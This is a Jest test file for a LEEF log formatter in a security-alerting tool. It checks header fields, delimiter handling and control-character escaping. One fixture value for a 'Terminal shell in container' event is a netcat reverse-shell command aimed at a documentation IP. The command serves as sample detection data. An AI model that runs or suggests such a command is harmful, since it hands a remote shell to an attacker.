import { describe, expect, it } from '@jest/globals';
import { FULL_VIOLATION, HOSTILE, input, runFormatContract } from '../contract.js';
import type { Content } from '../format.js';
import { leef } from './leef.js';

/** As IBM says: a header in pipes that names the delimiter, then pairs; a pair is split at its first equals sign. */
function parse({ body }: Content): { header: string[]; attributes: Map<string, string> } {
  const text = body.toString();
  const [version = '', vendor = '', product = '', productVersion = '', eventId = '', named = '', ...rest] = text.split('|');
  const delimiter = named.startsWith('x') ? String.fromCodePoint(Number.parseInt(named.slice(1), 16)) : named;
  expect(text).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u2028\u2029]/);
  const pairs = rest.join('|').split(delimiter);
  const attributes = new Map(pairs.map((pair) => [pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1)]));
  expect(attributes.size).toBe(pairs.length);
  return { header: [version, vendor, product, productVersion, eventId], attributes };
}

const CONTROLS = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g;

describe.each([
  ['tab', '\t'],
  ['caret', '^'],
] as const)('leef between %ss', (delimiter, character) => {
  const format = leef.create({ delimiter });
  runFormatContract('leef', {
    format,
    mediaType: 'text/plain; charset=utf-8',
    read(content) {
      const { attributes } = parse(content);
      return { text: attributes.get('msg') ?? '', fields: attributes.size };
    },
    expected: (text) => text.replaceAll(CONTROLS, ' ').replaceAll(character, ' '),
  });

  it('has its event id in the header, whatever stands in it', () => {
    for (const [, name] of HOSTILE) {
      const { header, attributes } = parse(format.write(input('violations', { ...FULL_VIOLATION, name })));
      expect(header.slice(0, 4)).toEqual(['LEEF:2.0', 'Tocsin', 'Tocsin', '0.1.0']);
      expect(attributes.get('id')).toBe(FULL_VIOLATION.id);
    }
  });
});

describe('leef', () => {
  it("writes IBM's predefined attributes", () => {
    const { header, attributes } = parse(leef.create({ delimiter: 'tab' }).write(input('violations', FULL_VIOLATION)));
    expect(header[4]).toBe('Terminal shell in container');
    expect(Object.fromEntries(attributes)).toMatchObject({
      devTime: '2026-09-14T14:02:11.123+0000',
      devTimeFormat: "yyyy-MM-dd'T'HH:mm:ss.SSSZ",
      cat: 'violation/process',
      sev: '5',
      src: '10.1.2.3',
      srcPort: '51234',
      dst: '2001:db8::9',
      usrName: 'root',
      commandLine: 'nc -e /bin/sh 203.0.113.9 4444',
    });
  });
});
